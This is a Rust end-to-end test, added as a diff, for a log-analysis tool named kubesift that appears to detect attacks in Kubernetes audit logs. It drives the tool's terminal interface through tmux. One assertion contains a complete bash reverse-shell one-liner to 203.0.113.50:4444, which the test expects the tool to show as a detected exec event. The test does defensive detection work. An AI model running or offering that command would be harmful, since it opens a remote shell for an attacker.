@@ -1,0 +1,201 @@
+//! End to end: the real binary in tmux on the sample logs, driven with keys as a user would —
+//! open an exec finding, open its event, read the decoded command, pivot to its account, go
+//! back, quit — checking the screen (capture-pane) at each step and the exit status.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::time::{Duration, Instant};
+
+struct Tmux {
+    socket: String,
+    session: &'static str,
+}
+
+impl Tmux {
+    fn run(&self, args: &[&str]) -> String {
+        let out = Command::new("tmux")
+            .arg("-L")
+            .arg(&self.socket)
+            .args(args)
+            .output()
+            .unwrap();
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+
+    fn keys(&self, keys: &[&str]) {
+        for k in keys {
+            self.run(&["send-keys", "-t", self.session, k]);
+            std::thread::sleep(Duration::from_millis(60));
+        }
+    }
+
+    fn screen(&self) -> String {
+        self.run(&["capture-pane", "-p", "-t", self.session])
+    }
+
+    /// Waits until the screen satisfies `ok`, or fails showing the screen.
+    fn wait(&self, what: &str, ok: impl Fn(&str) -> bool) -> String {
+        let start = Instant::now();
+        loop {
+            let s = self.screen();
+            if ok(&s) {
+                return s;
+            }
+            assert!(
+                start.elapsed() < Duration::from_secs(20),
+                "timed out waiting for {what}:\n{s}"
+            );
+            std::thread::sleep(Duration::from_millis(100));
+        }
+    }
+}
+
+impl Drop for Tmux {
+    fn drop(&mut self) {
+        let _ = Command::new("tmux")
+            .arg("-L")
+            .arg(&self.socket)
+            .arg("kill-server")
+            .output();
+    }
+}
+
+fn filters_line(screen: &str) -> String {
+    screen
+        .lines()
+        .find(|l| l.contains("filters:"))
+        .unwrap_or_default()
+        .to_owned()
+}
+
+fn events_count(screen: &str) -> Option<u64> {
+    let line = screen.lines().find(|l| l.contains("events — "))?;
+    line.split("events — ")
+        .nth(1)?
+        .split_whitespace()
+        .next()?
+        .parse()
+        .ok()
+}
+
+#[test]
+fn analyst_session_in_tmux() {
+    if Command::new("tmux").arg("-V").output().is_err() {
+        eprintln!("NOTICE: tmux not installed; end-to-end TUI test skipped");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let index = dir.path().join("idx");
+    let sample = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("sample-logs");
+    let out = common::ks(&index)
+        .arg("index")
+        .arg(&sample)
+        .output()
+        .unwrap();
+    assert!(out.status.success(), "{}", common::stderr(&out));
+    let exit_file = dir.path().join("exit");
+    let bin = assert_cmd::cargo::cargo_bin("kubesift");
+    let cmd = format!(
+        "{} --index {} tui; echo EXIT:$? > {}",
+        shell(&bin),
+        shell(&index),
+        shell(&exit_file)
+    );
+    let t = Tmux {
+        socket: format!("kubesift-e2e-{}", std::process::id()),
+        session: "e2e",
+    };
+    t.run(&[
+        "new-session",
+        "-d",
+        "-s",
+        t.session,
+        "-x",
+        "180",
+        "-y",
+        "45",
+        &cmd,
+    ]);
+
+    // The detections view, most severe first.
+    let s = t.wait("the detections view", |s| {
+        s.contains("detections —") && s.contains("KS-EXEC-REVERSE-SHELL")
+    });
+    let rows: Vec<&str> = s.lines().filter(|l| l.contains(" KS-")).collect();
+    let at = rows
+        .iter()
+        .position(|l| l.contains("KS-EXEC-REVERSE-SHELL"))
+        .unwrap();
+    for _ in 0..at {
+        t.keys(&["j"]);
+    }
+    t.wait("the reverse shell finding selected", |s| {
+        s.lines()
+            .any(|l| l.contains('▶') && l.contains("KS-EXEC-REVERSE-SHELL"))
+    });
+
+    // Its events, then the event itself with the decoded command.
+    t.keys(&["Enter"]);
+    t.wait("the finding's events", |s| {
+        s.contains("events — 1 matching") && s.contains("pods/exec")
+    });
+    t.keys(&["Enter"]);
+    let s = t.wait("the decoded command", |s| {
+        s.contains("command ") && s.contains("/dev/tcp/203.0.113.50/4444")
+    });
+    assert!(
+        s.contains("bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
+        "{s}"
+    );
+
+    // Pivot to the account: every event of it.
+    t.keys(&["p"]);
+    t.wait("the pivot menu", |s| {
+        s.contains("pivot on") && s.contains("account: system:serviceaccount:shop:web")
+    });
+    t.keys(&["Enter"]);
+    let s = t.wait("the account's events", |s| {
+        filters_line(s).contains("user:system:serviceaccount:shop:web")
+            && events_count(s).is_some_and(|n| n > 100)
+    });
+    assert!(
+        !filters_line(&s).contains("finding KS-"),
+        "the pivot widens to the whole account"
+    );
+
+    // Back in the pivot history: the finding's single event again.
+    t.keys(&["["]);
+    t.wait("the finding's events again", |s| {
+        filters_line(s).contains("finding KS-EXEC-REVERSE-SHELL") && events_count(s) == Some(1)
+    });
+
+    // Help overlay, then quit by going back view by view.
+    t.keys(&["?"]);
+    t.wait("the help overlay", |s| {
+        s.contains("help (? or esc to close)")
+    });
+    t.keys(&["Escape"]);
+    let start = Instant::now();
+    while !exit_file.exists() {
+        assert!(
+            start.elapsed() < Duration::from_secs(20),
+            "did not quit:\n{}",
+            t.screen()
+        );
+        t.keys(&["q"]);
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    std::thread::sleep(Duration::from_millis(100));
+    assert_eq!(
+        std::fs::read_to_string(&exit_file).unwrap().trim(),
+        "EXIT:0"
+    );
+}
+
+fn shell(p: &Path) -> String {
+    format!("'{}'", p.display().to_string().replace('\'', "'\\''"))
+}
